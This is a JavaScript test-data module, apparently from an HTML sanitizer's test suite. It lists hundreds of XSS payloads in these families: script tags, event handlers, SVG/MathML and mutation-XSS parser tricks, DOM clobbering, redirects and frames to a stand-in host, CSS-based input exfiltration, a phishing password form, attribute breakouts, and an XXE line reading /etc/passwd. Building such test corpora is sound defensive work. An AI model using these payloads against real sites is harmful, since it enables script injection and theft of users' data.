// Attack cases that are HTML: what would run, load, move or disguise if a text became markup.
// `hit(0)` and `evil.invalid`: see attack-urls.mjs.

import { lines } from './attack-lines.mjs';

/** Elements that call a handler by themselves once they are in a document, or when touched. */
const handlers = [
  ['img src=x', 'error load abort loadstart'],
  ['svg', 'load begin unload resize'],
  ['body', 'load pageshow hashchange message resize focus unload beforeunload online'],
  ['details open', 'toggle'],
  ['video src=x', 'error loadstart canplay play'],
  ['audio src=x', 'error loadstart volumechange'],
  ['video><source', 'error'],
  ['marquee', 'start finish bounce'],
  ['input autofocus', 'focus blur input change invalid select'],
  ['select autofocus', 'focus'],
  ['textarea autofocus', 'focus'],
  ['a href=# autofocus', 'focus click auxclick'],
  ['button', 'click mousedown'],
  ['div', 'click mouseover pointerenter wheel copy paste drag drop contextmenu animationstart'],
  ['div contenteditable autofocus', 'focus beforeinput'],
  ['div tabindex=0 autofocus', 'focus focusin'],
  ['p popover', 'beforetoggle toggle'],
  ['form', 'submit reset formdata'],
  ['iframe', 'load'],
  ['object data=x', 'error load'],
  ['embed src=x', 'load'],
  ['link rel=stylesheet href=x', 'error load'],
  ['style', 'load error'],
  ['script src=x', 'error load'],
  ['frameset', 'load'],
  ['math', 'click'],
  ['dialog open', 'close cancel'],
  ['custom-element', 'click'],
  ['xss autofocus tabindex=1', 'focus'],
];

/** Ways to part a tag's name from its attributes, and an attribute from its value. */
const separators = ['/', '\t', '\n', '\f', '\r', '/x/', '\x0b', ' x=">" ', '\0'];

/** @type {Record<string, string[]>} */
export const markupFamilies = {
  script: lines(String.raw`
    <script>hit(0)</script>
    <SCRIPT>hit(0)</SCRIPT>
    <script >hit(0)</script >
    <script src=//evil.invalid/x.js></script>
    <script type=module>hit(0)</script>
    <script type=importmap>{"imports":{"./engine.js":"//evil.invalid/x.js"}}</script>
    <script type=speculationrules>{"prerender":[{"urls":["https://evil.invalid/"]}]}</script>
    <script type="application/json" data-file="site.json">{"title":"Evil"}</script>
    <scr<script>ipt>hit(0)</scr</script>ipt>
    <<script>hit(0)//<</script>
    <script/x>hit(0)</script>
    <script>hit(0)
    </script><script>hit(0)</script>
    <noscript><p title="</noscript><script>hit(0)</script>">
    <iframe src=javascript:parent.hit(0)></iframe>
    %3Cscript%3Ehit(0)%3C/script%3E
    &lt;script&gt;hit(0)&lt;/script&gt;
    &#60;script&#62;hit(0)&#60;/script&#62;
    \u003cscript\u003ehit(0)\u003c/script\u003e
    ＜script＞hit(0)＜/script＞
    ¼script¾hit(0)¼/script¾
  `),

  handler: [
    ...handlers.flatMap(([element, events]) =>
      events.split(' ').map((event) => `<${element} on${event}=hit(0)>`),
    ),
    ...separators.map((separator) => `<img${separator}src=x${separator}onerror=hit(0)>`),
    ...lines(String.raw`
      <IMG SRC=x ONERROR=hit(0)>
      <img src=x oNeRrOr="hit(0)">
      <img src=x onerror='hit(0)'
      <img src=x onerror=&#104;it(0)>
      <img src="x" alt="" onerror="hit(0)"//>
      <img """><script>hit(0)</script>">
      <img src=x:x onerror=hit(0) x=
      <image src=x onerror=hit(0)>
      <img srcset="x 1x" onerror=hit(0)>
      <b onclick=hit(0)>x</b>
      <summary onclick=hit(0)>x</summary>
      <a href="https://example.org/" onclick=hit(0)>x</a>
      <br onclick=hit(0)>
      <kbd onmouseover=hit(0)>x</kbd>
    `),
  ],

  foreign: lines(String.raw`
    <svg><script>hit(0)</script></svg>
    <svg><script href=data:,hit(0) />
    <svg><a xlink:href="javascript:hit(0)"><text x=20 y=20>x</text></a></svg>
    <svg><a><animate attributeName=href values=javascript:hit(0) /><text x=20 y=20>x</text></a></svg>
    <svg><set attributeName=onclick to=hit(0) /></svg>
    <svg><animate onbegin=hit(0) attributeName=x dur=1s>
    <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
    <svg><image href=//evil.invalid/x.png onerror=hit(0)></svg>
    <svg><foreignObject><iframe onload=hit(0)></foreignObject></svg>
    <svg><desc><img src=x onerror=hit(0)></desc></svg>
    <svg><style>@import '//evil.invalid/x.css';</style></svg>
    <svg/onload=hit(0)
    <math><a xlink:href=javascript:hit(0)>x</a></math>
    <math><maction actiontype=statusline xlink:href=javascript:hit(0)>x</maction></math>
    <math href=javascript:hit(0)>x</math>
    <math><annotation-xml encoding=text/html><img src=x onerror=hit(0)></annotation-xml></math>
    <x:script xmlns:x="http://www.w3.org/1999/xhtml">hit(0)</x:script>
    <?xml-stylesheet href="javascript:hit(0)"?>
    <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
  `),

  // Markup that becomes another when it is parsed, written and parsed again.
  mutation: lines(String.raw`
    <svg></p><style><a id="</style><img src=1 onerror=hit(0)>">
    <svg><style>&lt;img src=x onerror=hit(0)&gt;</style></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(0)&gt;">
    <math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=hit(0)>">
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(0)>
    <math><mi><table><mi><style><!--</style><img title="--><img src onerror=hit(0)>">
    <noscript><style></noscript><img src=x onerror=hit(0)>
    <noscript><!--</noscript><img src=x onerror=hit(0)>-->
    <title><a title="</title><img src=x onerror=hit(0)>">
    <textarea></textarea><img src=x onerror=hit(0)>
    <textarea><a title="</textarea><img src=x onerror=hit(0)>">
    <xmp><a title="</xmp><img src=x onerror=hit(0)>">
    <listing>&lt;img src=x onerror=hit(0)&gt;</listing>
    <noembed><a title="</noembed><img src=x onerror=hit(0)>">
    <noframes><a title="</noframes><img src=x onerror=hit(0)>">
    <plaintext><img src=x onerror=hit(0)>
    <template><img src=x onerror=hit(0)></template>
    <template shadowrootmode=open><img src=x onerror=hit(0)></template>
    <div><template shadowroot=open><script>hit(0)</script></template></div>
    <select><template><img src=x onerror=hit(0)></template></select>
    <select><option><script>hit(0)</script></select>
    <select><iframe></select><img src=x onerror=hit(0)>
    <!--><img src=x onerror=hit(0)>-->
    <!---><img src=x onerror=hit(0)>-->
    <!-- --!><img src=x onerror=hit(0)>
    <!--[if gte IE 4]><img src=x onerror=hit(0)><![endif]-->
    <!x><img src=x onerror=hit(0)>
    <?x ><img src=x onerror=hit(0)>
    </x><img src=x onerror=hit(0)>
    <![CDATA[<img src=x onerror=hit(0)>]]>
    <svg><![CDATA[<img src=x onerror=hit(0)>]]></svg>
    <svg><![CDATA[]]><img src=x onerror=hit(0)>
    <form id=a><div></form><form id=b><input name=parentNode><img src=x onerror=hit(0)>
    <form><form><form><input onfocus=hit(0) autofocus>
    <table><tr><td><table><img src=x onerror=hit(0)>
    <table><script>hit(0)</script></table>
    <table background=//evil.invalid/x.png><td background=//evil.invalid/y.png>
    <p><table><p><svg><desc><b><img src=x onerror=hit(0)>
    <a><a><a href=javascript:hit(0)>x
    <b><p></b><img src=x onerror=hit(0)></p>
    <button><p><button><img src=x onerror=hit(0)>
    <h1><h2><img src=x onerror=hit(0)>
    <option><style></option></select><b><img src=x onerror=hit(0)></style>
    <body><frameset onload=hit(0)>
    </body></html><img src=x onerror=hit(0)>
    <ruby><rt><rb><img src=x onerror=hit(0)>
    <isindex prompt=x action=javascript:hit(0)>
    <keygen autofocus onfocus=hit(0)>
    <bgsound src=javascript:hit(0)>
    <layer src=//evil.invalid/></layer>
    <details><summary><details><img src=x onerror=hit(0)></summary>
    <figure><figcaption></figure><img src=x onerror=hit(0)>
    <abbr title="</abbr><img src=x onerror=hit(0)>">x</abbr>
    <kbd><kbd</kbd><img/src=x/onerror=hit(0)>
    <sub><sup></sub><img src=x onerror=hit(0)></sup>
  `),

  // Names that would hide what scripts look for.
  clobber: [
    ...lines(String.raw`
      <form id=document><input name=body></form>
      <img name=getElementById>
      <img name=querySelector>
      <img name=createElement>
      <img name=body>
      <img name=cookie>
      <img name=title>
      <form name=documentElement></form>
      <form name=head></form>
      <form name=forms></form>
      <form name=defaultView></form>
      <embed name=addEventListener>
      <embed name=baseURI>
      <object name=location id=location></object>
      <iframe name=hit></iframe>
      <iframe name=self srcdoc="<a id=x href=//evil.invalid>"></iframe>
      <iframe name=__proto__></iframe>
      <a id=config href=//evil.invalid/x.js>x</a>
      <a id=config></a><a id=config name=url href=javascript:hit(0)>x</a>
      <a id=trustedTypes name=trustedTypes>x</a>
      <a id=DOMPurify href=x:y>x</a>
      <a id=broadside href=//evil.invalid/>x</a>
      <div id=broadside data-content=//evil.invalid/>x</div>
      <main id=main>x</main>
      <p id=footnote-label>x</p>
      <p id=user-content-main>x</p>
      <p id=user-content-fn-1>x</p>
      <form id=x tabindex=1 onfocus=hit(0)><input name=attributes></form>
      <form><input name=nodeName><input name=tagName></form>
      <form><input name=childNodes><input name=removeChild></form>
      <form><input name=innerHTML></form>
      <p id=__proto__>x</p>
      <p id=constructor>x</p>
      <p id=toString>x</p>
      <div slot=x part=y is=z exportparts=w>x</div>
      <p name=main role=presentation aria-hidden=true>x</p>
    `),
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'broadside',
    'main',
    'footnote-label',
    'user-content-main',
    'user-content-user-content-x',
  ],

  redirect: lines(String.raw`
    <meta http-equiv=refresh content="0;url=https://evil.invalid/">
    <META HTTP-EQUIV="Refresh" CONTENT="0;URL=javascript:hit(0)">
    <meta http-equiv="refresh" content="0;url=data:text/html,<script>hit(0)</script>">
    <meta http-equiv=set-cookie content="a=b">
    <meta http-equiv=content-security-policy content="default-src *">
    <meta name=referrer content=unsafe-url>
    <meta charset=utf-7>
    <meta name=description content=evil>
    <base href=//evil.invalid/>
    <base target=_blank>
    <base href=javascript:/a/+hit(0)//>
    <link rel=stylesheet href=//evil.invalid/x.css>
    <link rel=import href=//evil.invalid/x.html>
    <link rel=preload as=script href=//evil.invalid/x.js>
    <link rel=modulepreload href=//evil.invalid/x.js>
    <link rel=prefetch href=//evil.invalid/>
    <link rel=dns-prefetch href=//evil.invalid/>
    <link rel=manifest href=//evil.invalid/x.webmanifest>
    <link rel=icon href=//evil.invalid/x.ico>
    <link rel=canonical href=//evil.invalid/>
    <a href=https://evil.invalid/ ping=//evil.invalid/p>x</a>
    <html manifest=//evil.invalid/>
  `),

  frame: lines(String.raw`
    <iframe src=https://evil.invalid/></iframe>
    <iframe srcdoc="<script>parent.hit(0)</script>"></iframe>
    <iframe srcdoc="&lt;img src=x onerror=parent.hit(0)&gt;"></iframe>
    <iframe src=data:text/html,<script>parent.hit(0)</script>></iframe>
    <iframe sandbox src=?post=case></iframe>
    <iframe loading=lazy src=//evil.invalid/></iframe>
    <frameset><frame src=javascript:parent.hit(0)></frameset>
    <fencedframe></fencedframe>
    <portal src=//evil.invalid/></portal>
    <object data=//evil.invalid/x.swf></object>
    <object data=data:text/html,<script>parent.hit(0)</script>></object>
    <object type=text/x-scriptlet data=//evil.invalid/x></object>
    <object><param name=src value=//evil.invalid/x></object>
    <embed src=javascript:hit(0)>
    <embed src=//evil.invalid/x.svg type=image/svg+xml>
    <applet code=x archive=//evil.invalid/x.jar></applet>
    <video src=//evil.invalid/x.mp4 autoplay></video>
    <video poster=//evil.invalid/x.png></video>
    <audio src=//evil.invalid/x.mp3 autoplay></audio>
    <video><track default src=//evil.invalid/x.vtt></video>
    <picture><source srcset=//evil.invalid/x.png><img src=x></picture>
    <img src=x srcset="//evil.invalid/x.png 2x">
    <img src=x lowsrc=javascript:hit(0) dynsrc=javascript:hit(0)>
    <img src=javascript:hit(0)>
    <img src=x usemap=#m><map name=m><area href=javascript:hit(0) shape=default></map>
    <img src=x longdesc=javascript:hit(0) crossorigin=use-credentials>
  `),

  style: lines(String.raw`
    <p style="position:fixed;inset:0;background:red">x</p>
    <p style=background:url(//evil.invalid/x.png)>x</p>
    <p style="background:url(javascript:hit(0))">x</p>
    <p style="width:expression(hit(0))">x</p>
    <p style="behavior:url(//evil.invalid/x.htc)">x</p>
    <p style="-moz-binding:url(//evil.invalid/x.xml#y)">x</p>
    <p style="animation-name:x" onanimationstart=hit(0)>x</p>
    <style>*{display:none}</style>
    <style>@import url(//evil.invalid/x.css);</style>
    <style>@import 'javascript:hit(0)';</style>
    <style>body{background:url(//evil.invalid/x.png)}</style>
    <style>input[value^=a]{background:url(//evil.invalid/a)}</style>
    <style>@font-face{font-family:x;src:url(//evil.invalid/x.woff)}*{font-family:x}</style>
    <style><!--</style><script>hit(0)</script>--></style>
    <STYLE type=text/javascript>hit(0)</STYLE>
    <font style='x:expression(hit(0))'>x</font>
    <p class="skip-link site-header">x</p>
    <p class=visually-hidden hidden inert>x</p>
    <font color=red size=99 face=x>x</font>
    <center><big><blink>x</blink></big></center>
    <body background=//evil.invalid/x.png bgcolor=red text=red>
    } * { background: url(//evil.invalid/x.png) } a {
    expression(hit(0))
    url(javascript:hit(0))
    @import '//evil.invalid/x.css';
  `),

  form: lines(String.raw`
    <form action=javascript:hit(0)><input type=submit></form>
    <form action=//evil.invalid/><input name=password type=password autofocus></form>
    <button formaction=javascript:hit(0)>x</button>
    <input type=image src=//evil.invalid/x.png formaction=javascript:hit(0)>
    <input type=hidden accesskey=x onclick=hit(0)>
    <input type=checkbox checked>
    <input type=file>
    <button form=x>x</button>
    <button popovertarget=main popovertargetaction=hide>x</button>
    <button command=show-modal commandfor=main>x</button>
    <select><option selected>x</select>
    <textarea name=x>y</textarea>
    <label for=main>x</label>
    <dialog open>x</dialog>
    <a href=https://evil.invalid/ target=_blank>x</a>
    <a href=https://evil.invalid/ target=_blank rel=opener>x</a>
    <a href=https://evil.invalid/ target=_top>x</a>
    <a href=https://evil.invalid/ target=main rel="">x</a>
    <a href=https://evil.invalid/ download=x.exe>x</a>
    <a href=https://evil.invalid/ referrerpolicy=unsafe-url>x</a>
    <area href=https://evil.invalid/ target=_blank>
    <a href="javascript:hit(0)">x</a>
    <a href=" &#14; javascript:hit(0)">x</a>
    <a href="java&#10;script:hit(0)">x</a>
    <a href='x' href="javascript:hit(0)">x</a>
    <a title=">" href="javascript:hit(0)">x</a>
    <a attributionsrc=//evil.invalid/ href=x>x</a>
    <p accesskey=x autofocus contenteditable draggable=true>x</p>
    <custom-element>x</custom-element>
    <b is=custom-element>x</b>
    <slot name=x>y</slot>
    <p itemscope itemtype=//evil.invalid nonce=x>y</p>
  `),

  quote: lines(String.raw`
    "><script>hit(0)</script>
    '><script>hit(0)</script>
    " onmouseover="hit(0)
    ' onmouseover='hit(0)
    " autofocus onfocus=hit(0) x="
    "/><img src=x onerror=hit(0)>
    ><img src=x onerror=hit(0)>
    --><img src=x onerror=hit(0)>
    ]]><img src=x onerror=hit(0)>
    </title><script>hit(0)</script>
    </textarea></style></noscript></title></template><img src=x onerror=hit(0)>
    x onerror=hit(0)
    x"onerror="hit(0)
    &quot;&gt;&lt;script&gt;hit(0)&lt;/script&gt;
    &#34; onmouseover=&#34;hit(0)
    \" onmouseover=\"hit(0)
    \"};hit(0);{\"
    ';hit(0);'
    {{constructor.constructor('hit(0)')()}}
    <%= hit(0) %>
    #{hit(0)} @{hit(0)}
    " style="background:url(//evil.invalid/x.png)
    " target="_blank" rel="opener
    " srcdoc="<script>parent.hit(0)</script>
    x" http-equiv="refresh" content="0;url=//evil.invalid/
  `),
};
